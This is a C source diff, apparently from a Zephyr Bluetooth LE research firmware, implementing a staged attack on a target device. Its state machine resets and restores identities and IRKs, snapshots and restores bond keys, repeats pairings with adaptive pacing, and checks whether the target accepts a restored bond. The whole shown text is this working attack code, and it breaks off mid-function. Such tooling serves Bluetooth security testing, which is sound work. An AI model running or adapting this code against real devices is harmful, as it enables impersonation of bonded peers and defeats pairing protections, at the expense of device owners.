@@ -1,286 +1,1920 @@
 #include "ifa.h"
+#include "campaign.h"
+#include "conn_profile.h"
+#include "dut.h"
+#include "idpool.h"
 #include "main.h"
+#include "output.h"
+#include "ramstore.h"
+#include "scan.h"
+#include "script.h"
+#include "snapshot.h"
+#include "stats.h"
+#include "worker.h"
+
+#include <common/rpa.h>
+#include <host/id.h>
+#include <host/keys.h>
+
+#include "zephyr/bluetooth/addr.h"
+#include "zephyr/bluetooth/bluetooth.h"
+#include "zephyr/bluetooth/conn.h"
+#include "zephyr/settings/settings.h"
+
+static bool snapshot_taken = false;
+static bool id_saved = false;
+
+uint8_t old_irk[16] = {0};
+bt_addr_le_t old_addr;
+
+void bt_rpa_invalidate(void);
+
+/* State machine ---------------------------------------------------------------------------------------------------------
+ * Every stage is a fixed sequence of steps. A step either completes synchronously (id save/reset, unpair, ...) or issues
+ * a Bluetooth request and stays pending until the matching callback event arrives through ifa_notify(). The runner only
+ * ever blocks on the event queue, so a stage advances the moment its precondition is met instead of after a fixed sleep.
+ */
+
+enum ifa_step {
+  IFA_STEP_ID_SAVE,
+  IFA_STEP_ID_RESET,
+  IFA_STEP_ATTACH,            // take over the connection the DUT established with us (peripheral role)
+  IFA_STEP_CONNECT,
+  IFA_STEP_SECURE,
+  IFA_STEP_SNAPSHOT,
+  IFA_STEP_DISCONNECT,
+  IFA_STEP_UNPAIR,
+  IFA_STEP_ID_RESTORE,
+  IFA_STEP_SNAPSHOT_RESTORE,
+  IFA_STEP_RELOAD,            // make the restored keys live: in place, or by restarting the stack
+  IFA_STEP_ADVERTISE,
+  IFA_STEP_REPORT,            // print what security the DUT agreed to
+  IFA_STEP_ACCEPT,            // advertise until the DUT's central connects to us
+  IFA_STEP_AWAIT_SECURITY,    // wait until the DUT encrypted (and, if it paired, bonded) the accepted link
+  IFA_STEP_VERIFY,            // the DUT encrypted with the restored bond instead of pairing again
+  IFA_STEP_COUNT,
+};
+
+enum ifa_stage {
+  IFA_STAGE_1,
+  IFA_STAGE_2,
+  IFA_STAGE_3,
+  IFA_STAGE_4,
+  IFA_STAGE_1_P,
+  IFA_STAGE_2_1_P,
+  IFA_STAGE_2_2_P,
+  IFA_STAGE_PAIR,
+  IFA_STAGE_CHECK,            // pairing check of one session, see ifa_check()
+  IFA_STAGE_1_PA,             // ifa_p: the whole attack on a central DUT, stages in this order
+  IFA_STAGE_2_PA,
+  IFA_STAGE_3_PA,
+  IFA_STAGE_4_PA,
+};
+
+struct ifa_stage_def {
+  const char *name;
+  const enum ifa_step *steps;
+  uint8_t n_steps;
+  bool campaign;              // progress is checkpointed to flash (campaign.c) from this stage on
+};
+
+static const enum ifa_step stage1_steps[] = {
+  IFA_STEP_ID_SAVE, IFA_STEP_CONNECT, IFA_STEP_SECURE, IFA_STEP_SNAPSHOT, IFA_STEP_DISCONNECT, IFA_STEP_UNPAIR,
+};
+static const enum ifa_step stage2_steps[] = {
+  IFA_STEP_ID_RESET, IFA_STEP_CONNECT, IFA_STEP_SECURE, IFA_STEP_DISCONNECT, IFA_STEP_UNPAIR,
+};
+static const enum ifa_step stage3_steps[] = {
+  IFA_STEP_ID_RESTORE, IFA_STEP_SNAPSHOT_RESTORE, IFA_STEP_RELOAD,
+};
+static const enum ifa_step stage4_steps[] = {
+  IFA_STEP_CONNECT, IFA_STEP_SECURE,
+};
+static const enum ifa_step stage1_p_steps[] = {
+  IFA_STEP_ID_SAVE, IFA_STEP_ATTACH, IFA_STEP_SNAPSHOT, IFA_STEP_DISCONNECT, IFA_STEP_UNPAIR,
+};
+static const enum ifa_step stage2_1_p_steps[] = {
+  IFA_STEP_ID_RESET, IFA_STEP_ADVERTISE,
+};
+static const enum ifa_step stage2_2_p_steps[] = {
+  IFA_STEP_ATTACH, IFA_STEP_DISCONNECT, IFA_STEP_UNPAIR,
+};
+static const enum ifa_step pair_steps[] = {
+  IFA_STEP_CONNECT, IFA_STEP_SECURE,
+};
+static const enum ifa_step check_steps[] = {
+  IFA_STEP_CONNECT, IFA_STEP_SECURE, IFA_STEP_REPORT, IFA_STEP_DISCONNECT, IFA_STEP_UNPAIR,
+};
+static const enum ifa_step stage1_pa_steps[] = {
+  IFA_STEP_ID_SAVE, IFA_STEP_ACCEPT, IFA_STEP_AWAIT_SECURITY, IFA_STEP_SNAPSHOT, IFA_STEP_DISCONNECT, IFA_STEP_UNPAIR,
+};
+static const enum ifa_step stage2_pa_steps[] = {
+  IFA_STEP_ID_RESET, IFA_STEP_ACCEPT, IFA_STEP_AWAIT_SECURITY, IFA_STEP_DISCONNECT, IFA_STEP_UNPAIR,
+};
+static const enum ifa_step stage4_pa_steps[] = {
+  IFA_STEP_ACCEPT, IFA_STEP_AWAIT_SECURITY, IFA_STEP_REPORT, IFA_STEP_VERIFY,
+};
+
+#define IFA_STAGE_DEF(_name, _steps) { .name = _name, .steps = _steps, .n_steps = ARRAY_SIZE(_steps) }
+#define IFA_CAMPAIGN_STAGE_DEF(_name, _steps) \
+  { .name = _name, .steps = _steps, .n_steps = ARRAY_SIZE(_steps), .campaign = true }
+
+static const struct ifa_stage_def stages[] = {
+  [IFA_STAGE_1] = IFA_CAMPAIGN_STAGE_DEF("1", stage1_steps),
+  [IFA_STAGE_2] = IFA_CAMPAIGN_STAGE_DEF("2", stage2_steps),
+  [IFA_STAGE_3] = IFA_CAMPAIGN_STAGE_DEF("3", stage3_steps),
+  [IFA_STAGE_4] = IFA_STAGE_DEF("4", stage4_steps),
+  [IFA_STAGE_1_P] = IFA_STAGE_DEF("1", stage1_p_steps),
+  [IFA_STAGE_2_1_P] = IFA_STAGE_DEF("2.1", stage2_1_p_steps),
+  [IFA_STAGE_2_2_P] = IFA_STAGE_DEF("2.2", stage2_2_p_steps),
+  [IFA_STAGE_PAIR] = IFA_STAGE_DEF("pair", pair_steps),
+  [IFA_STAGE_CHECK] = IFA_STAGE_DEF("check", check_steps),
+  [IFA_STAGE_1_PA] = IFA_CAMPAIGN_STAGE_DEF("1", stage1_pa_steps),
+  [IFA_STAGE_2_PA] = IFA_CAMPAIGN_STAGE_DEF("2", stage2_pa_steps),
+  [IFA_STAGE_3_PA] = IFA_CAMPAIGN_STAGE_DEF("3", stage3_steps),
+  [IFA_STAGE_4_PA] = IFA_STAGE_DEF("verify", stage4_pa_steps),
+};
+
+static const char *const step_names[IFA_STEP_COUNT] = {
+  [IFA_STEP_ID_SAVE] = "id_save",
+  [IFA_STEP_ID_RESET] = "id_reset",
+  [IFA_STEP_ATTACH] = "attach",
+  [IFA_STEP_CONNECT] = "connect",
+  [IFA_STEP_SECURE] = "secure",
+  [IFA_STEP_SNAPSHOT] = "snapshot",
+  [IFA_STEP_DISCONNECT] = "disconnect",
+  [IFA_STEP_UNPAIR] = "unpair",
+  [IFA_STEP_ID_RESTORE] = "id_restore",
+  [IFA_STEP_SNAPSHOT_RESTORE] = "snapshot_restore",
+  [IFA_STEP_RELOAD] = "reload",
+  [IFA_STEP_ADVERTISE] = "advertise",
+  [IFA_STEP_REPORT] = "report",
+  [IFA_STEP_ACCEPT] = "accept",
+  [IFA_STEP_AWAIT_SECURITY] = "await_security",
+  [IFA_STEP_VERIFY] = "verify",
+};
+
+/* Deadline and retry policy of a step. A timeout of 0 waits forever, backoff doubles with every further attempt. */
+struct ifa_step_policy {
+  uint32_t timeout_ms;
+  uint8_t retries;
+  uint16_t backoff_ms;
+};
+
+#define IFA_BACKOFF_MAX_MS 10000
+
+/* Pacing of stage 2 (AIMD). Some DUTs refuse to connect or pair again right after the last bonding. Every iteration in
+ * which a step failed doubles the gap before the next iteration, every clean one shortens it by step_ms. The gap
+ * settles just above what the DUT tolerates and is kept in the DUT cache as the start value of the next run.
+ */
+struct ifa_pacing {
+  bool on;
+  uint16_t step_ms;
+  uint16_t max_ms;
+};
+
+static struct ifa_pacing pacing = { .on = true, .step_ms = 100, .max_ms = IFA_BACKOFF_MAX_MS };
+
+// the DUT's central decides when it reconnects, so accepting waits longer than our own connect
+static struct ifa_step_policy step_policy[IFA_STEP_COUNT] = {
+  [IFA_STEP_CONNECT] = { .timeout_ms = 5000, .retries = 2, .backoff_ms = 500 },
+  [IFA_STEP_SECURE] = { .timeout_ms = 10000, .retries = 1, .backoff_ms = 1000 },
+  [IFA_STEP_DISCONNECT] = { .timeout_ms = 5000, .retries = 0, .backoff_ms = 0 },
+  [IFA_STEP_ACCEPT] = { .timeout_ms = 30000, .retries = 1, .backoff_ms = 500 },
+  [IFA_STEP_AWAIT_SECURITY] = { .timeout_ms = 10000, .retries = 1, .backoff_ms = 1000 },
+};
+
+struct ifa_evt {
+  stats_ts_t ts;         // taken in the callback, so queueing does not add to the measured latency
+  struct bt_conn *conn;  // only compared, never dereferenced
+  uint8_t type;
+  int16_t status;
+};
+
+/* internal event posted by ifa_abort() */
+#define IFA_EVT_ABORT 0xff
+
+enum ifa_phase {
+  IFA_PHASE_STEP,      // current step is pending
+  IFA_PHASE_TEARDOWN,  // waiting for the link of a failed step to go down
+  IFA_PHASE_BACKOFF,   // waiting before the step is retried
+  IFA_PHASE_PACE,      // gap before the next stage 2 iteration
+  IFA_PHASE_INITIATOR, // connect step waits until no other session is initiating
+};
+
+struct ifa_sm {
+  enum ifa_stage stage;
+  enum ifa_stage last_stage;  // stages stage..last_stage are run in order
+  uint8_t step;               // index into stages[stage].steps
+  int iter;                   // stage 2 iteration
+  int n;                      // stage 2 iterations
+  bt_addr_le_t target;
+  enum conn_profile_id profile;
+  struct bt_conn *conn;
+  bool pairing;               // pairing features were exchanged while securing
+  bool finished;
+  enum ifa_phase phase;
+  k_timepoint_t deadline;
+  uint8_t attempt;            // retries spent on failed_step
+  uint8_t failed_step;
+  uint8_t resume_step;        // step entered once teardown/backoff is over
+  bool skip;                  // give up the current stage 2 iteration after teardown
+  int fail_err;               // the run failed for good, ends with it after teardown
+  bool connect_failed;        // ... in the connect step, the DUT was never reached
+  bool aborting;
+  bool id_changed;            // the default identity no longer is the saved one
+  bool auto_pending;          // the controller is initiating to the accept list
+  bool initiating;            // our connect is pending until connected() reports it, also while it is cancelled
+  bool advertising;           // the accept step started advertising
+  stats_ts_t step_start;
+  stats_ts_t iter_start;
+  int res;                    // IFA_STEP_PENDING while the run of this machine is in progress
+  uint8_t sec_level;          // filled in by the report step
+  uint8_t enc_key_size;
+  uint8_t sec_flags;          // enum bt_security_flag
+  uint8_t remote_key_size;    // max key size of the DUT's pairing features
+  uint8_t sec_err;            // enum bt_security_err the secure step failed with
+  uint32_t start_ms;
+  uint32_t report_ms;
+  uint8_t sid;                // index of the session in the running set
+  uint32_t gap_ms;            // pacing: wait between two stage 2 iterations
+  bool iter_failed;           // a step of the current iteration failed (retried or skipped)
+  bool pace_pending;          // wait gap_ms before the next iteration is entered
+  bool campaign;              // progress is checkpointed to flash until stage 3 is through
+};
+
+/* step results; negative values are errors */
+#define IFA_STEP_DONE     0
+#define IFA_STEP_PENDING  1
+
+static const char *const phase_names[] = {
+  [IFA_PHASE_STEP] = "waiting",
+  [IFA_PHASE_TEARDOWN] = "teardown",
+  [IFA_PHASE_BACKOFF] = "backoff",
+  [IFA_PHASE_PACE] = "pacing",
+  [IFA_PHASE_INITIATOR] = "initiator",
+};
+
+// every session adds its connect/pair/disconnect callbacks
+K_MSGQ_DEFINE(ifa_evtq, sizeof(struct ifa_evt), 32, 8);
+static K_SEM_DEFINE(ifa_disconnected_sem, 0, 1);               // any disconnection, for ifa_wait_disconnected()
+static atomic_t ifa_running;
+static bool restore_inplace = true;  // stage 3 re-installs the keys into the running host, restart only as fallback
+static bool connect_auto;  // connect step: initiate from the accept list instead of a directed create
+/* state machines of the running job, read by ifa_get_status(); one, or one per session for ifa_check() */
+static struct ifa_sm *volatile ifa_set;
+static volatile uint8_t ifa_set_n;
+
+/* Part 1: internal functions ------------------------------------------------------------------------------------------- */
+
+static int id_reset(uint8_t id, bt_addr_le_t *addr, uint8_t *irk){
+  int err;
+
+  if(!irk && !addr) {
+    // Reseting with new random addr and irk.
+    err = bt_id_reset(id, NULL, NULL);
+    if(err < 0){
+      shell_error(shell, "id_reset(): Identity reset failed with code %d", err);
+      return err;
+    }
+
+  } else {
+    // Reseting with set addr and irk.
+    err = bt_id_reset(id, addr, irk);
+    if(err < 0){
+      shell_error(shell, "id_reset(): Identity reset failed with code %d", err);
+      return err;
+    }
+  }
+  // invalidate rpa to start new connection with new rpa (otherwise rpa might still be valid and an old RPA will be used.
+  bt_rpa_invalidate();
+
+  return 0;
+}
+
+static void get_addr_plus_irk(bt_addr_le_t *addr, uint8_t *log_irk, bool debugging) {
+  char addr_str[BT_ADDR_LE_STR_LEN];
+  char irk_str[17];
+
+  bt_get_irk(BT_ID_DEFAULT, log_irk);
+  bt_get_identity(BT_ID_DEFAULT, addr);
+
+  if (debugging) {
+    bt_addr_le_to_str(addr, addr_str, BT_ADDR_LE_STR_LEN);
+
+    for (size_t i = 0; i < 16; i++) {
+      sprintf(&irk_str[i * 2], "%02x", log_irk[16 - 1 - i]);
+    }
+    irk_str[16 * 2] = '\0';
+
+    shell_print(shell, "Got addr: %s, and irk 0x%s ", addr_str, irk_str);
+  }
+}
+
+// op names the failed call in the record, text is the message of the text mode
+static void ifa_connect_error(const char *op, const char *text, const bt_addr_le_t *addr, int err){
+  char addr_str[BT_ADDR_LE_STR_LEN];
+  struct output_field fields[] = {
+    OUTPUT_STR("addr", addr_str),
+    OUTPUT_STR("op", op),
+    OUTPUT_NUM("err", err),
+  };
+
+  if (!output_structured()) {
+    shell_error(shell, "%s failed (%d)", text, err);
+    return;
+  }
+
+  bt_addr_le_to_str(addr, addr_str, sizeof(addr_str));
+  output_record("connect_failed", k_uptime_get_32(), worker_current_id(), fields, ARRAY_SIZE(fields));
+}
+
+static int ifa_connect(bt_addr_le_t *addr, enum conn_profile_id profile, struct bt_conn **conn){
+  int err;
+
+  err = conn_profile_create(addr, profile, conn);
+  if (err < 0) {
+    ifa_connect_error("connect", "ifa_connect(): Connection", addr, err);
+    return -ENOEXEC;
+  }
+
+  return IFA_STEP_PENDING;
+}
+
+/* Connect-on-sight: the DUT is the only entry of the filter accept list, so the controller sends the connect request
+ * on the very first advertisement it receives from the DUT instead of the host first creating a connection object and
+ * a new initiator for every attempt. connected() brings the connection object, ifa_step_event() adopts it.
+ */
+static int ifa_connect_auto(struct ifa_sm *sm){
+  int err;
+
+  // the operator's entries would be connected as well, they are put back once the DUT connected
+  err = scan_accept_list_only(&sm->target);
+  if (err) {
+    // -EAGAIN: the scanner is running with the accept list
+    ifa_connect_error("accept_list", "ifa_connect_auto(): Updating the accept list", &sm->target, err);
+    scan_accept_list_restore();
+    return err;
+  }
+
+  err = conn_profile_create_auto(sm->profile);
+  if (err) {
+    ifa_connect_error("connect_auto", "ifa_connect_auto(): Auto connect", &sm->target, err);
+    scan_accept_list_restore();
+    return -ENOEXEC;
+  }
+
+  sm->auto_pending = true;
+  return IFA_STEP_PENDING;
+}
+
+// the initiator is done with the accept list
+static void ifa_connect_auto_done(struct ifa_sm *sm){
+  int err;
+
+  sm->auto_pending = false;
+  sm->initiating = false;
+  err = scan_accept_list_restore();
+  if (err) {
+    shell_error(shell, "restoring the accept list failed (%d)", err);
+  }
+}
+
+static void ifa_connect_auto_stop(struct ifa_sm *sm){
+  if (sm->auto_pending) {
+    bt_conn_create_auto_stop();
+    ifa_connect_auto_done(sm);
+  }
+}
+
+// connected() of an auto connect: is it the DUT?
+static int ifa_connect_auto_event(struct ifa_sm *sm, const struct ifa_evt *evt){
+  struct bt_conn *conn;
+
+  if (evt->type != IFA_EVT_CONNECTED) {
+    return IFA_STEP_PENDING;
+  }
+
+  if (evt->status) {
+    ifa_connect_auto_done(sm);
+    return -ENOTCONN;
+  }
+
+  // the event only carries the pointer; the lookup takes our reference if it still is the DUT's connection
+  conn = bt_conn_lookup_addr_le(BT_ID_DEFAULT, &sm->target);
+  if (conn != evt->conn) {
+    if (conn) {
+      bt_conn_unref(conn);
+    }
+    return IFA_STEP_PENDING;
+  }
+
+  ifa_connect_auto_done(sm);
+  sm->conn = conn;
+  stats_record(STATS_CONNECT, sm->step_start, evt->ts);
+  return IFA_STEP_DONE;
+}
+
+/* Attack on a central DUT: we advertise and the DUT connects. connected() only brings the pointer of the new connection,
+ * it is ours if it still exists and we are its peripheral. In stage 1 the target is whoever connected: the DUT's identity
+ * is only known once it distributed its keys, see ifa_await_security_done(). Later stages only take that DUT.
+ */
+static int ifa_accept(struct ifa_sm *sm){
+  int err;
+
+  err = w_advertising_start();
+  if (err) {
+    return err;
+  }
+
+  sm->advertising = true;
+  return IFA_STEP_PENDING;
+}
+
+static void ifa_accept_stop(struct ifa_sm *sm){
+  if (sm->advertising) {
+    bt_le_adv_stop();
+    sm->advertising = false;
+  }
+}
+
+struct ifa_conn_match {
+  const struct bt_conn *ptr;
+  struct bt_conn *conn;
+};
+
+static void ifa_conn_match(struct bt_conn *conn, void *data){
+  struct ifa_conn_match *match = data;
+
+  if (conn == match->ptr) {
+    match->conn = bt_conn_ref(conn);
+  }
+}
+
+// stage 2 and verify of ifa_p: sm->target is the identity the DUT distributed in stage 1, other centrals are refused
+static bool ifa_stage_knows_dut(enum ifa_stage stage){
+  return stage == IFA_STAGE_2_PA || stage == IFA_STAGE_4_PA;
+}
+
+/* The DUT connects with its identity, an RPA our resolving list resolves to it (verify) or, in stage 2 where it is
+ * not bonded to us, an RPA of the IRK it distributed in stage 1 (snapshot). Without that IRK no RPA can be told apart
+ * from a stranger's, so only the identity is accepted.
+ */
+static bool ifa_accept_is_dut(const struct ifa_sm *sm, const bt_addr_le_t *addr){
+  uint8_t irk[16];
+
+  if (bt_addr_le_eq(addr, &sm->target)) {
+    return true;
+  }
+  if (!bt_addr_le_is_rpa(addr)) {
+    return false;
+  }
+  if (snapshot_dut_irk(&sm->target, irk)) {
+    shell_warn(shell, "no snapshot holds an IRK of the DUT, an RPA is not taken for it");
+    return false;
+  }
+
+  return bt_rpa_irk_matches(irk, &addr->a);
+}
+
+static int ifa_accept_event(struct ifa_sm *sm, const struct ifa_evt *evt){
+  struct ifa_conn_match match = { .ptr = evt->conn };
+  char addr[BT_ADDR_LE_STR_LEN];
+  struct bt_conn_info info;
+
+  if (evt->type != IFA_EVT_CONNECTED || evt->status) {
+    return IFA_STEP_PENDING;
+  }
+
+  bt_conn_foreach(BT_CONN_TYPE_LE, ifa_conn_match, &match);
+  if (!match.conn) {
+    return IFA_STEP_PENDING;
+  }
+
+  if (bt_conn_get_info(match.conn, &info) || info.role != BT_CONN_ROLE_PERIPHERAL) {
+    bt_conn_unref(match.conn);
+    return IFA_STEP_PENDING;
+  }
+
+  if (ifa_stage_knows_dut(sm->stage) && !ifa_accept_is_dut(sm, bt_conn_get_dst(match.conn))) {
+    bt_addr_le_to_str(bt_conn_get_dst(match.conn), addr, sizeof(addr));
+    shell_warn(shell, "%s is not the DUT of stage 1, disconnecting it", addr);
+    bt_conn_disconnect(match.conn, BT_HCI_ERR_REMOTE_USER_TERM_CONN);
+    bt_conn_unref(match.conn);
+    // the connection stopped the advertising set
+    return w_advertising_start() ? -EIO : IFA_STEP_PENDING;
+  }
+
+  // a connectable advertising set stops with the connection
+  sm->advertising = false;
+  sm->conn = match.conn;
+  if (!ifa_stage_knows_dut(sm->stage)) {
+    sm->target = *bt_conn_get_dst(sm->conn);
+  }
+  return IFA_STEP_DONE;
+}
+
+// a security request, so a DUT that waits for us starts pairing or encrypting
+static int ifa_await_security(struct ifa_sm *sm){
+  sm->pairing = false;
+
+  // queued events of this link are still ahead, even if it is encrypted already
+  if (bt_conn_get_security(sm->conn) < BT_SECURITY_L2) {
+    bt_conn_set_security(sm->conn, BT_SECURITY_L2);
+  }
+
+  return IFA_STEP_PENDING;
+}
+
+// the DUT distributed its identity address while bonding, snapshot and unpair need that one
+static int ifa_await_security_done(struct ifa_sm *sm){
+  char addr[BT_ADDR_LE_STR_LEN];
+
+  if (!ifa_stage_knows_dut(sm->stage)) {
+    sm->target = *bt_conn_get_dst(sm->conn);
+    return IFA_STEP_DONE;
+  }
+
+  if (!bt_addr_le_eq(bt_conn_get_dst(sm->conn), &sm->target)) {
+    bt_addr_le_to_str(bt_conn_get_dst(sm->conn), addr, sizeof(addr));
+    shell_error(shell, "%s bonded, it is not the DUT of stage 1", addr);
+    return -EACCES;
+  }
+
+  return IFA_STEP_DONE;
+}
+
+static int ifa_verify(struct ifa_sm *sm){
+  char addr[BT_ADDR_LE_STR_LEN];
+
+  bt_addr_le_to_str(&sm->target, addr, sizeof(addr));
+
+  if (sm->pairing) {
+    shell_error(shell, "%s paired again, the restored bond was not used", addr);
+    return -EACCES;
+  }
+
+  if (!output_structured()) {
+    shell_print(shell, "%s encrypted with the restored bond", addr);
+  }
+  return IFA_STEP_DONE;
+}
+
+static int ifa_securiy(struct bt_conn *conn){
+  int err;
+
+  err = bt_conn_set_security(conn, BT_SECURITY_L2);
+  if (err < 0) {
+    shell_error(shell, "ifa_securiy(): Setting security failed with err: %d", err);
+    return err;
+  }
+
+  // already encrypted at the requested level, no security_changed will follow
+  if (bt_conn_get_security(conn) >= BT_SECURITY_L2) {
+    return IFA_STEP_DONE;
+  }
+
+  return IFA_STEP_PENDING;
+}
+
+static int ifa_unpair(uint8_t id, bt_addr_le_t *addr){
+  int err;
+
+	err = bt_unpair(id, addr);
+	if (err) {
+		shell_error(shell, "ifa_unpair(): Failed to clear pairing (err %d)", err);
+    return err;
+	}
+
+  return err;
+}
+
+static int ifa_snapshot_take(bt_addr_le_t *addr){
+  int err;
+
+  bt_keys_snapshot_take(addr);
+  snapshot_taken = true;
+
+  // per DUT copy, so stage 3 of this DUT still works after stage 1 ran against another one
+  err = snapshot_store(addr);
+  if (err) {
+    shell_error(shell, "ifa_snapshot_take(): no table slot for this DUT (err %d)", err);
+  }
+
+  return 0;
+}
+
+static int ifa_disconnect(struct bt_conn *conn){
+  int err;
+
+  if (!conn) {
+    return IFA_STEP_DONE;
+  }
+
+  err = bt_conn_disconnect(conn, BT_HCI_ERR_REMOTE_USER_TERM_CONN);
+  if (err == -ENOTCONN) {
+    return IFA_STEP_DONE;
+  }
+  if (err) {
+    shell_error(shell, "Disconnection failed, reason: %d (%s)", err, bt_hci_err_to_str(err));
+    return err;
+  }
+
+  return IFA_STEP_PENDING;
+}
+
+static int ifa_attach(struct ifa_sm *sm){
+
+  //check if default_conn exists (so if there is a connection between the two devices)
+  if (!default_conn){
+    shell_error(shell, "Connection terminated.");
+    return -ENOTCONN;
+  }
+
+  // get BDA of Central; bt_conn_get_dst() returns a const, so we keep a mutable copy for snapshot and unpair
+  sm->target = *bt_conn_get_dst(default_conn);
+  sm->conn = bt_conn_ref(default_conn);
+
+  return IFA_STEP_DONE;
+}
+
+static int ifa_stack_restart(void){
+  stats_ts_t start = stats_now();
+  int err;
+
+	err = bt_disable();
+	if (err) {
+		shell_error(shell, "Bluetooth disable failed (err %d)\n", err);
+	}
+	shell_print(shell, "Bluetooth disabled\n");
+
+	// bt_enable() without callback returns once the host is ready
+	err = bt_enable(NULL);
+	if (err) {
+		shell_error(shell, "Bluetooth init failed (err %d)\n", err);
+	}
+	shell_print(shell,"Bluetooth re-enabled\n");
+	stats_record_since(STATS_STACK_RESTART, start);
+
+	// settings_load() returns after all handlers (including bt) have committed
+	start = stats_now();
+	err = settings_load();
+	stats_record_since(STATS_SETTINGS_LOAD, start);
+  if(err < 0){
+    shell_error(shell, "Loading settings failed with err: %d\n", err);
+    shell_print(shell, "continuing anyways\n");
+  } else {
+	  shell_print(shell,"Settings loaded\n");
+  }
+
+  return IFA_STEP_DONE;
+}
+
+static void ifa_resolve_add(struct bt_keys *keys, void *data){
+  int *added = data;
+
+  if (keys->id != BT_ID_DEFAULT || (keys->state & BT_KEYS_ID_ADDED)) {
+    return;
+  }
+
+  // host and controller resolving list, so the DUT's RPAs resolve to the restored bond again
+  bt_id_add(keys);
+  (*added)++;
+}
+
+static void ifa_count_ltk(struct bt_keys *keys, void *data){
+  int *count = data;
+
+  if (keys->id == BT_ID_DEFAULT) {
+    (*count)++;
+  }
+}
+
+// err -ENOENT: the restored keys are missing, the caller restarts the stack
+static void ifa_restore_record(const struct ifa_sm *sm, int err, int irks, uint32_t saved_us){
+  char addr[BT_ADDR_LE_STR_LEN];
+  struct output_field fields[] = {
+    OUTPUT_NUM("sid", sm->sid),
+    OUTPUT_STR("addr", addr),
+    OUTPUT_NUM("err", err),
+    OUTPUT_NUM("irks", irks),
+    OUTPUT_NUM("saved_us", saved_us),
+  };
+
+  bt_addr_le_to_str(&sm->target, addr, sizeof(addr));
+  output_record("restore_inplace", k_uptime_get_32(), worker_current_id(), fields, ARRAY_SIZE(fields));
+}
+
+/* The snapshot restore puts the keys back into the key pool and the identity restore is live already, so the only
+ * thing the stack restart adds is the resolving list, which was flushed when the identity was reset. Re-adding the
+ * IRKs avoids bt_disable(), bt_enable() and a settings_load() of every subtree. If the restored keys are not in the
+ * pool the caller falls back to the restart.
+ */
+static int ifa_restore_inplace(struct ifa_sm *sm){
+  const int ltk = BT_KEYS_LTK | BT_KEYS_LTK_P256 | BT_KEYS_PERIPH_LTK;
+  stats_ts_t start = stats_now();
+  uint32_t inplace_us, restart_us, load_us;
+  uint32_t saved_us = 0;
+  int added = 0;
+  int bonds = 0;
+
+  if (!bt_addr_le_eq(&sm->target, BT_ADDR_LE_ANY)) {
+    bonds = bt_keys_find(ltk, BT_ID_DEFAULT, &sm->target) ? 1 : 0;
+  } else {
+    bt_keys_foreach_type(ltk, ifa_count_ltk, &bonds);
+  }
+
+  if (!bonds) {
+    if (output_structured()) {
+      ifa_restore_record(sm, -ENOENT, 0, 0);
+    } else {
+      shell_print(shell, "restored keys not found in the key pool");
+    }
+    return -ENOENT;
+  }
+
+  bt_keys_foreach_type(BT_KEYS_IRK, ifa_resolve_add, &added);
+  stats_record_since(STATS_BOND_RESTORE, start);
+
+  if (!stats_mean(STATS_BOND_RESTORE, &inplace_us) && !stats_mean(STATS_STACK_RESTART, &restart_us) &&
+      !stats_mean(STATS_SETTINGS_LOAD, &load_us) && restart_us + load_us > inplace_us) {
+    saved_us = restart_us + load_us - inplace_us;
+  }
+
+  if (output_structured()) {
+    ifa_restore_record(sm, 0, added, saved_us);
+    return IFA_STEP_DONE;
+  }
+
+  shell_print(shell, "restored in place, %d IRKs added to the resolving list", added);
+  if (saved_us) {
+    shell_print(shell, "saves %u us per run compared to the stack restart (mean)", saved_us);
+  }
+
+  return IFA_STEP_DONE;
+}
+
+static enum ifa_step ifa_sm_cur_step(const struct ifa_sm *sm){
+  return stages[sm->stage].steps[sm->step];
+}
+
+// structured counterpart of the progress lines; security adds the level and key size, which only the report has
+static void ifa_record(const struct ifa_sm *sm, const char *ev, int err, bool security){
+  char addr[BT_ADDR_LE_STR_LEN];
+  struct output_field fields[10] = {
+    OUTPUT_NUM("sid", sm->sid),
+    OUTPUT_STR("addr", addr),
+    OUTPUT_STR("stage", stages[sm->stage].name),
+    OUTPUT_STR("step", step_names[ifa_sm_cur_step(sm)]),
+    OUTPUT_NUM("iter", sm->iter + 1),
+    OUTPUT_NUM("attempt", sm->attempt),
+    OUTPUT_NUM("err", err),
+    OUTPUT_NUM("gap_ms", sm->gap_ms),
+  };
+  size_t n = 8;
+
+  if (security) {
+    fields[n++] = (struct output_field)OUTPUT_NUM("level", sm->sec_level);
+    fields[n++] = (struct output_field)OUTPUT_NUM("key_size", sm->enc_key_size);
+  }
+
+  bt_addr_le_to_str(&sm->target, addr, sizeof(addr));
+  output_record(ev, k_uptime_get_32(), worker_current_id(), fields, n);
+}
+
+static int ifa_report(struct ifa_sm *sm){
+  char addr[BT_ADDR_LE_STR_LEN];
+  struct bt_conn_info info;
+
+  if (!sm->conn || bt_conn_get_info(sm->conn, &info)) {
+    return -ENOTCONN;
+  }
+
+  sm->sec_level = info.security.level;
+  sm->enc_key_size = info.security.enc_key_size;
+  sm->sec_flags = info.security.flags;
+  sm->report_ms = k_uptime_get_32();
+
+  if (output_structured()) {
+    ifa_record(sm, "report", 0, true);
+    return IFA_STEP_DONE;
+  }
+
+  bt_addr_le_to_str(&sm->target, addr, sizeof(addr));
+  shell_print(shell, "%s: security level %u, key size %u", addr, sm->sec_level, sm->enc_key_size);
+  return IFA_STEP_DONE;
+}
+
+static int ifa_reload(struct ifa_sm *sm){
+  if (restore_inplace && ifa_restore_inplace(sm) == IFA_STEP_DONE) {
+    return IFA_STEP_DONE;
+  }
+
+  return ifa_stack_restart();
+}
+
+// executes the entry action of the current step
+static int ifa_step_enter(struct ifa_sm *sm){
+  int err;
+
+  switch (ifa_sm_cur_step(sm)) {
+  case IFA_STEP_ID_SAVE:
+    cmd_ifa_id_save();
+    return IFA_STEP_DONE;
+  case IFA_STEP_ID_RESET: {
+    struct idpool_entry entry;
+
+    // a pre-generated identity if there is one, otherwise the controller draws a new one now
+    if (idpool_enabled() && !idpool_take(&entry)) {
+      err = id_reset(BT_ID_DEFAULT, &entry.addr, entry.irk);
+    } else {
+      err = id_reset(BT_ID_DEFAULT, NULL, NULL);
+    }
+    return err ? err : IFA_STEP_DONE;
+  }
+  case IFA_STEP_ATTACH:
+    return ifa_attach(sm);
+  case IFA_STEP_CONNECT:
+    return connect_auto ? ifa_connect_auto(sm) : ifa_connect(&sm->target, sm->profile, &sm->conn);
+  case IFA_STEP_SECURE:
+    sm->pairing = false;
+    return ifa_securiy(sm->conn);
+  case IFA_STEP_SNAPSHOT:
+    ifa_snapshot_take(&sm->target);
+    if (sm->campaign) {
+      snapshot_persist(&sm->target);
+    }
+    return IFA_STEP_DONE;
+  case IFA_STEP_DISCONNECT:
+    return ifa_disconnect(sm->conn);
+  case IFA_STEP_UNPAIR:
